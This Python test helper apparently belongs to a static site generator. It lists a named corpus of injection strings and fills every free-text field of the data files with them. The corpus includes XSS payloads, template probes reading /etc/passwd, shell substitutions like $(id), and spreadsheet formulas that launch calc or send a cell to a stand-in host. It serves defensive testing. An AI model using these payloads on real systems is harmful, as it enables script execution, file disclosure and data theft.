"""A corpus of injections, and the fields of the data to put them in, found in the list of fields itself.

A field that is added to `generator/model.py` is found here the same day: nothing names one.
"""

import re
import typing
from collections.abc import Callable, Iterator, Mapping
from itertools import count
from pathlib import Path
from typing import Annotated, Any, Literal

import yaml

from generator.catalog import COLLECTIONS
from generator.reading.decode import Field, fields_of
from generator.reading.kinds import Kind, ReferenceTo
from generator.reading.record import Record

_RUN = "window.__hit=1"
"""What every script of the corpus would do: no page may ever have done it."""

INJECTIONS = {
    # Markup.
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<ScRiPt >{_RUN}</sCrIpT >",
    "script of another host": "<script src=//exemple.fr/x.js></script>",
    "event attribute": f"<img src=x onerror={_RUN}>",
    "tag without end": f"<img src=x onerror={_RUN} ",
    "svg": f"<svg onload={_RUN}><set onbegin={_RUN} /></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    "style": "<style>*{display:none}</style>",
    "base and refresh": '<base href=//exemple.fr/><meta http-equiv=refresh content="0;url=//exemple.fr/">',
    "form": "<form action=//exemple.fr/><button>",
    "end of the script": f"</script><script>{_RUN}</script>",
    "end of the title": f"</title><script>{_RUN}</script>",
    "end of a text alone": f"</textarea></template></style></noscript></svg><script>{_RUN}</script>",
    "comment": "<!--",
    "end of a comment": f"--><img src=x onerror={_RUN}>",
    "conditional comment": f"<!--[if true]><script>{_RUN}</script><![endif]-->",
    "character data": f"<![CDATA[ ]]><script>{_RUN}</script>",
    "instruction": "<?php echo 1 ?>",
    "entity of XML": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:a">]>&b;',
    "not quite a tag": f"< script>{_RUN}</script > <3 <> <",
    # Attributes.
    "double quotes": f'" autofocus tabindex=0 onfocus="{_RUN}" x="',
    "single quotes": f"' autofocus tabindex=0 onfocus='{_RUN}' x='",
    "backticks": f"` onfocus=`{_RUN}` x=`",
    "no quotes": f"x autofocus tabindex=0 onfocus={_RUN}",
    "end of a tag": f'"/> onfocus={_RUN} >',
    # Entities.
    "entities": f"&lt;img src=x onerror={_RUN}&gt;",
    "entities in capitals": f"&LT;img src=x onerror={_RUN}&GT;",
    "entities without end": f"&ltimg src=x onerror={_RUN}&gt &quot &copy &reg=1",
    "numbered entities": f"&#60;img src=x onerror={_RUN}&#x3E;",
    "numbered entities without end": f"&#60img src=x onerror={_RUN}&#x3E",
    "entities twice": f"&amp;lt;script&amp;gt;{_RUN}",
    "entities of HTML 5": "&Tab;&NewLine;&colon;&lpar;&NotEqualTilde;&CounterClockwiseContourIntegral;",
    # Links.
    "script in a link": f"[lien](javascript:{_RUN})",
    "script in a link, disguised": f"[lien]( JaVaScRiPt&colon;{_RUN}) [lien](java\tscript:{_RUN})",
    "data in a link": "[lien](data:text/html;base64,PHNjcmlwdD4=)",
    "script between angle brackets": f"<javascript:{_RUN}>",
    "reference": f"[lien][1] [1]: javascript:{_RUN}",
    "quotes in a link": f'[lien](https://exemple.fr/"onfocus="{_RUN}"autofocus="&lt=1)',
    "single quotes in a link": f"[lien](https://exemple.fr/'onfocus='{_RUN})",
    "title of a link": f'[lien](https://exemple.fr/ "x" onfocus="{_RUN}")',
    "markup in a link": "[*gras* `a`](https://exemple.fr/)",
    "picture": "![image](https://exemple.fr/x.png) ![x][y]",
    "links inside each other": "[a [b](https://exemple.fr/) c](https://exemple.fr/)",
    "bare address": "https://exemple.fr/x www.exemple.fr //exemple.fr",
    "address between angle brackets": "<https://exemple.fr/>",
    # Templates and formats.
    "template": "{{ 7*7 }} {{ config.__class__.__init__.__globals__ }}",
    "statement of a template": "{% include '/etc/passwd' %}{% raw %}",
    "comment of a template": "{# note #}",
    "end of a template": "}} %} #}",
    "format": "{0.__class__.__init__} {name} {n} {} { } } {",
    "old format": "%s %(name)s %d 100 % %%",
    "replacement": r"\1 \g<0> $1 $& ${x} \u003cb\u003e",
    "environment": "!ENV [HOME, x] $HOME %HOME% `id` $(id)",
    "names of objects": "__proto__ constructor toString hasOwnProperty",
    # Markdown and its extensions.
    "front matter": "--- title: Autre --- ",
    "front matter on lines": "---\ntitle: Autre\nhide: [toc]\n---\n",
    "heading": "# Titre # {.classe}",
    "anchor": "# Titre {#titre}",
    "headings on lines": "\n\n# Titre\n\nTitre\n=====\n\n",
    "attributes": f"{{: onclick={_RUN} #x .y }} {{.y}}",
    "emphasis": "**gras** __gras__ _souligné_ ~~barré~~ ==marqué== ^^x^^ ++x++ {--x--}",
    "light markup": "*accent* `code` [lien](https://exemple.fr/?a=1&b=2)",
    "light markup, unfinished": "*accent `code [lien](https://exemple.fr/",
    "list": "- a 1. b * c + d > e",
    "blocks on lines": "\n\n- a\n\n1. b\n\n> c\n\n    code\n\n```sh\nid\n```\n\n***\n\n",
    "block of code with attributes": f"\n```{{.sh onclick={_RUN} autofocus=1 onfocus={_RUN}}}\nid\n```\n",
    "block of code, otherwise": f"\n~~~~ {{: onclick={_RUN} }}\nid\n~~~~\n",
    "table": "| a | b |",
    "HTML in Markdown": '<div markdown="1">',
    "snippet": '--8<-- "mkdocs.yml"',
    "emoji": ":smile: :material-account: :octicons-alert-16:{ .x }",
    "abbreviation": "*[HTML]: Langage",
    "abbreviation on lines": "\n\n*[le]: Langage\n\n[^1]: Note\n\n",
    "note at the foot": "[^1] [^1]: Note",
    "admonition": "!!! danger ??? note === tab",
    "mathematics": r"$x$ \(x\) \[x\] $$x$$",
    "keys": "++ctrl+alt+del++ (c) (tm) -- ... 1/2",
    "contents": "[TOC]",
    "definition": ": définition",
    "macro": "{!mkdocs.yml!} @[mention] @everyone #1 GH-1",
    "reserves of the engine": "wzxhzdk:0 klzzwxh:0001 qlwxv",
    "reserves of the engine, whole": "\x02wzxhzdk:0\x03\x02amp\x03",
    "backslashes": "\\ \\\\ \\` \\* \\< \\n \\x3cb\\x3e",
    # Data of scripts.
    "end of a string": f'"}}]}};{_RUN}//',
    "JSON": '","__proto__":{"x":1},"y":"\\',
    "bars": "a|b||c",
    # Spreadsheets.
    "formula": "=1+1",
    "formula that asks": '=HYPERLINK("https://exemple.fr/?"&A1)',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "wide formula": "＝1+1",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula on the next line": "\n=1+1",
    "next cell": '";=1+1;"',
    # Letters that are not seen, or that move others.
    "right to left": "\u202etpircs\u202c",
    "isolated": "\u2066a\u2069",
    "marks": "\u200e\u200f\u061c",
    "no width": "a\u200bb\u2060c\ufeffd",
    "soft hyphen": "a\u00adb",
    "tags": "\U000e0041\U000e0042",
    "odd ends of lines": "a\u2028b\u2029c\u0085d",
    "odd spaces": "a\u00a0b\u3000c\u2007d",
    "piled up": "z" + "\u0301" * 40,
    "not a letter": "a\ufffeb\uffffc",
    # Terminals.
    "colour": "\x1b[31mrouge\x1b[0m",
    "erased screen": "\x1b[2J\x1b[H",
    "title of the window": "\x1b]0;titre\x07",
    "link of a terminal": "\x1b]8;;https://exemple.fr/\x1b\\lien\x1b]8;;\x1b\\",
    "single sign": "\x9b2J\x9d0;titre\x9c",
    "back and again": "abc\x08\x08\x08xyz\x7f",
    "nothing": "a\x00b",
    # Services that read what is printed.
    "command of a service": "::error::x ::set-output name=a::b ##[add-mask]x",
}
"""By name. Some are refused by `gen check`; all of them stay texts on any page, file or terminal."""

ODDLY_SHOWN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
"""Letters that no terminal and no reader is ever given."""


# --- the fields ----------------------------------------------------------------------------------


def records() -> Iterator[type[Record]]:
    """Each class of records that the files hold, those inside others included."""
    found = [each.record for each in COLLECTIONS]
    for cls in found:
        found += [inner for field in fields_of(cls).values() if (inner := record_in(field.type)) not in (None, *found)]
        yield cls


def record_in(hint: Any) -> type[Record] | None:
    """The class of the records that a field holds, if it holds some."""
    if isinstance(hint, type):
        return hint if issubclass(hint, Record) else None
    return next(filter(None, map(record_in, typing.get_args(hint))), None)


def kind_of(hint: Any) -> Kind | None:
    """The kind of a value that a person writes; None for what is chosen from a list, or leads to a record."""
    args = typing.get_args(hint)
    return args[1] if typing.get_origin(hint) is Annotated and isinstance(args[1], Kind) else None


def is_free(hint: Any) -> bool:
    """Whether a value may be any text."""
    kind = kind_of(hint)
    return kind is not None and kind.pattern is None


def text_kind(field: Field) -> Kind:
    """The kind of the texts that a field holds."""
    hints = [field.type]
    for hint in hints:
        hints += typing.get_args(hint) if typing.get_origin(hint) is not Annotated else ()
    return next(kind for hint in hints if is_free(hint) and (kind := kind_of(hint)))


def holds_text(hint: Any, seen: tuple[Any, ...] = ()) -> bool:
    """Whether a free text stands anywhere in a field."""
    if isinstance(hint, type) and issubclass(hint, Record):
        return hint not in seen and any(holds_text(each.type, (*seen, hint)) for each in fields_of(hint).values())
    if typing.get_origin(hint) is Annotated:
        return is_free(hint)
    return any(holds_text(each, seen) for each in typing.get_args(hint))


# --- a folder in which every field is written -----------------------------------------------------

Tree = Any
"""What a file holds: lists, tables and the texts at their ends."""
Put = Callable[[Field, str], str]
"""What to write for a text of a field."""


class Folder:
    """The files of a folder of data: as they stand, or with every free text that the list of fields allows."""

    def __init__(self, data: Path, *, is_completed: bool = True) -> None:
        self.files: dict[str, Tree] = {
            each.name: yaml.load((data / f"{each.name}.yaml").read_text("utf-8"), yaml.BaseLoader)
            for each in COLLECTIONS
        }
        self._ids = count(1)
        if is_completed:
            self._complete_all()

    def _complete_all(self) -> None:
        for each in COLLECTIONS:
            tree = self.files[each.name]
            # The first record stays as it is: what is set aside, said otherwise or moved would leave nothing beside it.
            for record in [tree] if each.single else tree[1:] or tree:
                self._complete(record, each.record)

    def _complete(self, record: dict[str, Tree], cls: type[Record]) -> None:
        for key, field in fields_of(cls).items():
            # A single record inside another is there for a reason: the base folder has one where it may stand.
            if key not in record and holds_text(field.type) and not isinstance(field.type, type):
                record[key] = self._made(field.type)
            inner = record_in(field.type)
            if inner is not None and key in record:
                for each in record[key] if isinstance(record[key], list) else [record[key]]:
                    self._complete(each, inner)

    def _made(self, hint: Any) -> Tree:
        """A value that a field can have."""
        args = typing.get_args(hint)
        if typing.get_origin(hint) is tuple:
            return [self._made(args[0])]
        if record := record_in(hint):
            return {key: self._made(each.type) for key, each in fields_of(record).items() if each.required}
        if typing.get_origin(hint) is Literal:
            return args[0]
        if typing.get_origin(hint) is Annotated and isinstance(args[1], ReferenceTo):
            return self._known(args[1].target)
        return f"{_SAMPLES[args[1].name]}{next(self._ids) if is_free(hint) else ''}"

    def _known(self, target: str) -> str:
        """An id that a reference may name."""
        for tree in (self.files, self.files["site"], self.files["ladder"]):
            if target in tree:
                return str(tree[target][0]["id"])
        raise AssertionError(f"nothing has an id of {target}")

    def with_texts(self, put: Put) -> dict[str, Tree]:
        """The files with another text in each place that holds a free one."""
        return {
            each.name: (
                _told(self.files[each.name], each.record, put)
                if each.single
                else [_told(record, each.record, put) for record in self.files[each.name]]
            )
            for each in COLLECTIONS
        }


_SAMPLES = {"line": "Texte ", "printed": "Intitulé ", "prose": "Phrase ", "url": "https://exemple.fr/a", "id": "a"}


def _told(record: dict[str, Tree], cls: type[Record], put: Put) -> dict[str, Tree]:
    fields = fields_of(cls)
    return {key: _value(value, fields[key].type, fields[key], put) for key, value in record.items()}


def _value(value: Tree, hint: Any, field: Field, put: Put) -> Tree:
    if isinstance(hint, type) and issubclass(hint, Record):
        return _told(value, hint, put)
    args = typing.get_args(hint)
    if isinstance(value, list):
        return [_value(each, args[0], field, put) for each in value]
    if isinstance(value, dict):
        return {key: _value(each, args[1], field, put) for key, each in value.items()}
    return put(field, value) if is_free(hint) else value


def write(files: Mapping[str, Tree], data: Path) -> Path:
    """The files of a folder of data, as YAML."""
    data.mkdir(parents=True, exist_ok=True)
    for name, tree in files.items():
        text = yaml.dump(tree, Dumper=yaml.CSafeDumper, allow_unicode=True, sort_keys=False, width=10**6)
        (data / f"{name}.yaml").write_text(text, encoding="utf-8")
    return data
